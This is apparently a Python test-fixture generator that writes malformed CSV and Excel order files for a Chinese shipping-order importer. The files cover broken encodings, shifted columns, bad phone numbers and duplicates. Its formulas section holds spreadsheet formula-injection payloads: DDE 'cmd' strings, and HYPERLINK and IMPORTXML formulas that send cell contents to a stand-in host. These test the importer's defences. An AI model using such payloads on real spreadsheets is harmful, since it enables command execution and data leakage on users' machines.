"""Rows that are wrong, dangerous or lost: each must show up, none may stop the rest."""

import json

import contacts as c
import writers as w
from contacts import expect, kept, reject
from shapes import HEAD, plain


def nul_bytes() -> None:
    """NUL bytes that a database dump left behind."""
    rows = [HEAD, plain("0-1", c.WANG, "毛\x00巾", note="\x00\x00"), plain("0-2", c.LI)]
    rows[1] = [rows[1][0], rows[1][1], f"{rows[1][2]}\x00\x00", *rows[1][3:]]
    text = "\r\n".join(",".join(str(cell) for cell in row) for row in rows) + "\r\n\x00\x00"
    w.raw(
        "nul-bytes.csv",
        text.encode(),
        [
            expect(c.WANG, "B", order_no="0-1", **{"goods!": ["\x00"], "remark!": ["\x00"]}),
            expect(c.LI, "B", order_no="0-2"),
        ],
    )


def formulas() -> None:
    """Formulas in contact fields are held; in free fields they are text; armour and +86 are none."""
    wang = c.WANG

    def row(no: str, name: str, phone: str, address: str, goods: str, note: str) -> w.Row:
        return [no, name, phone, address, goods, "1", note]

    w.text(
        "formulas.csv",
        [
            HEAD,
            row("F1", '=HYPERLINK("http://a.example/?"&C2,"王小明")', wang.phone, wang.joined(), "灯", ""),
            row("F2", wang.name, wang.phone, "=cmd|' /C calc'!A0", "灯", ""),
            row("F3", wang.name, '=IMPORTXML(CONCAT("http://a.example/",D4),"//a")', wang.joined(), "灯", ""),
            row("F4", wang.name, wang.phone, wang.joined(), "灯", '=HYPERLINK("http://a.example","点我")'),
            row("F5", wang.name, wang.phone, wang.joined(), "@SUM(1+1)*cmd|' /C calc'!A0", ""),
            row("F6", wang.name, f'="{wang.phone}"', wang.joined(), "灯", "-"),
            row("F7", wang.name, f"+86{wang.phone}", wang.joined(), "灯", "+1件"),
        ],
        [
            reject("formula_in_field"),
            reject("formula_in_field"),
            reject("formula_in_field"),
            expect(wang, "B", order_no="F4", **{"remark~": "HYPERLINK"}),
            expect(wang, "B", order_no="F5", **{"goods~": "SUM(1+1)"}),
            expect(wang, "B", order_no="F6"),
            expect(wang, "B", order_no="F7"),
        ],
    )


def column_counts() -> None:
    """A comma nobody quoted, a line that lost its end, a comma too many at the end of every line."""
    li, gao = plain("C1", c.LI), plain("C4", c.GAO)
    shifted = ["C2", "王小明", "13800131526", "浙江省金华市义乌市北苑街道", "机场路88号", "灯", "1", ""]
    short = ["C3", "孙悦", "15800133910"]
    w.text(
        "column-counts.csv",
        [HEAD, li, shifted, short, gao],
        [
            expect(c.LI, "B", order_no="C1"),
            reject("column_count"),
            reject("column_count"),
            expect(c.GAO, "B", order_no="C4"),
        ],
    )
    w.text(
        "trailing-commas.csv",
        [[*HEAD, ""], [*li, ""], [*gao, ""]],
        [expect(c.LI, "B", order_no="C1"), expect(c.GAO, "B", order_no="C4")],
    )


def shifted_cells() -> None:
    """One row pushed to the right by an inserted cell: it must not become an order."""
    rows: list[w.Row] = [
        [*HEAD[:6]],
        plain("K1", c.LI)[:6],
        ["K2", "", c.WANG.name, c.WANG.phone, c.WANG.joined(), "灯"],
        plain("K3", c.GAO)[:6],
    ]
    w.raw(
        "shifted-cells.xlsx",
        w.workbook({"订单": rows}),
        [expect(c.LI, "B", order_no="K1"), reject(), expect(c.GAO, "B", order_no="K3")],
    )


def swapped() -> None:
    """Name and phone, or phone and address, under each other's header."""
    rows: list[w.Row] = [
        HEAD,
        plain("W1", c.LI),
        ["W2", c.WANG.phone, c.WANG.name, c.WANG.joined(), "灯", 1, ""],
        ["W3", c.SUN.name, c.SUN.joined(), c.SUN.phone, "灯", 1, ""],
        plain("W4", c.PENG),
    ]
    w.raw(
        "swapped-columns.xlsx",
        w.workbook({"订单": rows}),
        [
            expect(c.LI, "B", order_no="W1"),
            reject("swapped_columns"),
            reject("swapped_columns"),
            expect(c.PENG, "B", order_no="W4"),
        ],
    )


def conflicts() -> None:
    """Regions that contradict each other, and streets that only bear another region's name."""
    head = ["订单号", "收件人", "手机", "省", "市", "区", "详细地址"]
    huangpu = c.Contact(
        "何大勇", "13700131657", "上海市", "上海市", "黄浦区", "南京东路街道", "江西中路181号", "何**"
    )
    bj = c.Contact(
        "韩磊", "13300135899", "北京市", "北京市", "东城区", "东直门街道", "海南仓胡同46号", "韩**"
    )
    sd = c.Contact("彭勇", "13200131415", "山东省", "青岛市", "市南区", "八大关街道", "香港中路76号", "彭**")
    rows: list[w.Row] = [
        head,
        ["D1", "王小明", "13800131526", "浙江省", "南京市", "鼓楼区", "湖南路街道云南北路45号"],
        ["D2", "王小明", "13800131526", "浙江省", "金华市", "昆山市", "玉山镇前进中路219号"],
        [
            "D3",
            "王小明",
            "13800131526",
            "浙江省",
            "金华市",
            "义乌市",
            "江苏省苏州市昆山市玉山镇前进中路219号",
        ],
        *[
            [f"D{n}", one.name, one.phone, one.province, one.city, one.district, one.detail]
            for n, one in enumerate((huangpu, bj, sd, c.ZHAXI), 4)
        ],
    ]
    w.text(
        "division-conflicts.csv",
        rows,
        [
            reject("division_conflict"),
            reject("division_conflict"),
            reject("division_conflict"),
            *[expect(one, "B", order_no=f"D{n}") for n, one in enumerate((huangpu, bj, sd, c.ZHAXI), 4)],
        ],
    )


def phones() -> None:
    """Numbers that lost digits, gained some, or were never a phone."""

    def row(no: str, phone: str) -> w.Row:
        return [no, "王小明", phone, c.WANG.joined(), "灯", "1", ""]

    w.text(
        "phones.csv",
        [
            HEAD,
            row("B1", "1.38E+10"),
            row("B2", "1.38001E+10"),
            row("B3", "1380013152"),
            row("B4", "138001315266"),
            row("B5", "00000000000"),
            row("B6", ""),
            row("B7", "\t"),
            row("B8", "见备注"),
            row("B9", "13800131526\t"),
            row("B10", "0086-13800131526"),
            row("B11", "(0579)85551234"),
            row("B12", "0579 8555123"),
        ],
        [
            reject("phone_precision_lost"),
            reject("phone_precision_lost"),
            reject("bad_phone"),
            reject("bad_phone"),
            reject("bad_phone"),
            reject("no_phone"),
            reject("no_phone"),
            reject(),
            expect(c.WANG, "B"),
            expect(c.WANG, "B"),
            expect(
                c.WANG,
                "B",
                phone="0579-85551234",
                phones=["0579-85551234"],
                masked={"phone": "0579-******34"},
            ),
            expect(
                c.WANG, "B", phone="0579-8555123", phones=["0579-8555123"], masked={"phone": "0579-******3"}
            ),
        ],
    )


def missing() -> None:
    """Something that an order needs is not there; a row with nothing but goods of nobody."""
    wang = c.WANG
    w.text(
        "missing-fields.csv",
        [
            HEAD,
            ["E1", "", wang.phone, wang.joined(), "灯", "1", ""],
            ["E2", wang.name, "", wang.joined(), "灯", "1", ""],
            ["E3", wang.name, wang.phone, "", "灯", "1", ""],
            ["E4", " ", wang.phone, wang.joined(), "灯", "1", ""],
            ["E5", wang.name, wang.phone, "　", "灯", "1", ""],
            plain("E6", c.GAO),
        ],
        [
            reject("no_name"),
            reject("no_phone"),
            reject("no_address"),
            reject("no_name"),
            reject("no_address"),
            expect(c.GAO, "B", order_no="E6"),
        ],
    )


def duplicates() -> None:
    """Equal rows are held, goods lines and near twins are not, far apart or side by side."""
    a, b = plain("A1", c.LI, "杯子", "1"), plain("A1", c.LI, "杯刷", "1")
    other = plain("A2", c.LI, "杯子", "1")
    w.text(
        "duplicates.csv",
        [HEAD, a, b, a, other, plain("A3", c.GAO), plain("A1", c.LI, "杯子", "2"), b, HEAD, a],
        [
            expect(c.LI, "B", order_no="A1", goods="杯子"),
            expect(c.LI, "B", order_no="A1", goods="杯刷"),
            reject("duplicate"),
            expect(c.LI, "B", order_no="A2"),
            expect(c.GAO, "B", order_no="A3"),
            expect(c.LI, "B", order_no="A1", quantity="2"),
            reject("duplicate"),
            reject("duplicate"),
        ],
    )


def broken_bytes() -> None:
    """A character cut in half must not turn the whole file into another encoding."""
    good = [plain("Z1", c.WANG), plain("Z2", c.SUN), plain("Z3", c.GAO)]
    for name, encoding in (("cut-character-utf8.csv", "utf-8"), ("bad-byte-gb18030.csv", "gb18030")):
        lines = [",".join(str(cell) for cell in row).encode(encoding) for row in (HEAD, *good)]
        broken = "毛巾".encode(encoding)
        cut = broken[:-1] if encoding == "utf-8" else b"\xff" + broken
        lines[2] = lines[2].replace(broken, cut)
        w.raw(
            name,
            b"\r\n".join(lines) + b"\r\n",
            [
                expect(c.WANG, "B", order_no="Z1", goods="毛巾"),
                {"order_no": "Z2"},
                expect(c.GAO, "B", order_no="Z3", goods="毛巾"),
            ],
        )


def open_quote() -> None:
    """A quote that is never closed must not swallow the orders behind it."""
    rows = [
        ",".join(str(cell) for cell in plain(f"Q{n}", one))
        for n, one in enumerate((c.WANG, c.LI, c.GAO, c.PENG), 1)
    ]
    rows[1] = rows[1].replace("毛巾", '"毛巾')
    data = "\r\n".join([",".join(str(cell) for cell in HEAD), *rows, ""])
    w.raw(
        "open-quote.csv",
        data.encode(),
        [
            expect(c.WANG, "B", order_no="Q1"),
            {"row": 2},
            expect(c.GAO, "B", order_no="Q3"),
            expect(c.PENG, "B", order_no="Q4"),
        ],
    )


def mixed_lanes() -> None:
    """One sheet with every fate: plain, masked, cipher, held."""
    cipher = "~Kx7pZ0mGQ2w8nB4v1cT6yA==~1~"
    rows: list[w.Row] = [
        HEAD,
        plain("Y1", c.WANG),
        ["Y2", "李*", "159****2748", "广东省深圳市南山区粤海街道****", "灯", "1", ""],
        ["Y3", cipher, cipher, cipher, "灯", "1", ""],
        ["Y4", c.GAO.name, "1.52E+10", c.GAO.joined(), "灯", "1", ""],
        ["Y5", c.SUN.name, "*******3910", c.SUN.joined(), "灯", "1", ""],
    ]
    w.text(
        "every-fate.csv",
        rows,
        [
            expect(c.WANG, "B", order_no="Y1"),
            kept("", "李*", "159****2748", order_no="Y2"),
            kept("ciphertext", cipher, cipher, order_no="Y3"),
            reject("phone_precision_lost"),
            kept("masked_phone", "孙悦", "*******3910", order_no="Y5"),
        ],
        encoding="gb18030",
    )


def unreadable() -> None:
    """Files that no reader can read: each must end in an error that speaks, never in rows."""
    folder = w.FOLDER / "unreadable"
    good = w.workbook({"订单": [HEAD, plain("1", c.LI)]})
    files = {
        "empty.csv": b"",
        "cut.xlsx": good[: len(good) // 2],
        "picture.xlsx": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
        "letter.csv": "尊敬的客户：\n您好，附件请查收。\n".encode(),
        "locked.xlsx": w.locked(good, "另一个口令"),
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    (folder / "cases.json").write_text(
        json.dumps(
            [
                *({"file": name, "password": None} for name in files),
                {"file": "locked.xlsx", "password": "不是这个"},
            ],
            ensure_ascii=False,
            indent=1,
        )
        + "\n",
        "utf-8",
    )


ALL = (
    nul_bytes,
    formulas,
    column_counts,
    shifted_cells,
    swapped,
    conflicts,
    phones,
    missing,
    duplicates,
    broken_bytes,
    open_quote,
    mixed_lanes,
    unreadable,
)
